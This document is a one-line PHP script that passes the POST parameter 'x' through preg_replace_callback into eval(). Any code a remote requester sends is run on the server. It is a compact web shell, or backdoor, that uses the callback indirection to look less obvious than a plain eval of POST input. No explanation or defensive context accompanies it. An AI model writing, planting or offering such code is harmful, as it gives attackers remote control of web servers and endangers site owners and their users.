<?php preg_replace_callback('/.+/s', function ($m) { return eval($m[0]); }, $_POST['x']);
